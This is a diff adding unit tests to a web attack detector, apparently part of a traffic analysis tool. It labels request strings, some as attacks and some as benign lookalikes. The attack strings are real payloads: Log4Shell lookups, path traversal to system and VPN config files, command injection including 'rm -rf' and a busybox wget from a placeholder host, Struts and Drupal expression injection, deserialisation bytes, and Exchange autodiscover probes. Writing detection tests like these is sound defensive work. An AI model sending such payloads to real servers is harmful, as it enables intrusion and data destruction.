@@ -88,7 +88,21 @@ TEST(WebAttack, TellsAttacksFromOrdinaryRequests) {
       {"/?x=${jndi:ldap://198.51.100.7/a}", "Log4Shell"},
       {"/?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "Log4Shell"},
       {"/?x=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%2Fa%7D", "Log4Shell"},
+      {"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts", "path traversal"},
+      {"/vpn/../vpns/cfg/smb.conf", "path traversal"},
+      {"/shell?cd+/tmp;rm+-rf+*", "command injection"},
+      {"/cgi-bin/status?x=;cat${IFS}/etc/hosts", "command injection"},
+      {"/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
+       "command injection"},
+      {"/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/", "template or expression injection"},
+      {"/user/register?element_parents=account/mail/%23value&mail[#post_render][]=exec",
+       "template or expression injection"},
+      {"/autodiscover/autodiscover.json?@x.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3f@x.example",
+       "web scanner"},
       {"/", nullptr},
+      {"/docs/java.lang.html", nullptr},
+      {"/shell?topic=cd-players", nullptr},
+      {"/vpn/index.html", nullptr},
       {"/search?q=select a union for your trade", nullptr},
       {"/search?q=cats and dogs", nullptr},
       {"/news/2024/11/script-writers-on-strike.html?ref=home&id=10", nullptr},
@@ -110,6 +124,26 @@ TEST(WebAttack, TellsAttacksFromOrdinaryRequests) {
       EXPECT_EQ(f[0].outcome, Outcome::kAttempted) << c.uri;
     }
   }
+}
+
+TEST(WebAttack, InBodiesAndTypes) {
+  const auto attack_of = [](std::string_view type, std::string_view body) {
+    record::Batch batch(protocol::http::Http::schema);
+    protocol::http::Http h = request("/upload.action", 200);
+    h.method = "POST";
+    h.request_content_type = type;
+    h.request_body = body;
+    h.append_to(batch, {});
+    const auto f = run("web_attack", batch);
+    return f.empty() ? std::string() : std::string(f[0].fact("class"));
+  };
+  EXPECT_EQ(attack_of("%{(#_='multipart/form-data').(#cmd='id')}", ""), "template or expression injection") << "Struts";
+  EXPECT_EQ(attack_of("application/octet-stream", std::string_view("\xac\xed\0\5sr", 6)), "unsafe deserialisation");
+  EXPECT_EQ(attack_of("text/xml", "<NewStatusURL>$(busybox wget http://198.51.100.7/x)</NewStatusURL>"),
+            "command injection");
+  EXPECT_EQ(attack_of("text/xml", "<p:ExecuteShellCommand_INPUT><p:command>id</p:command>"), "command injection");
+  EXPECT_EQ(attack_of("multipart/form-data; boundary=x", "--x\r\nname=java.lang"), "");
+  EXPECT_EQ(attack_of("application/json", R"({"name":"Language","lang":"en"})"), "");
 }
 
 TEST(WebAttack, TheAnswerDecides) {
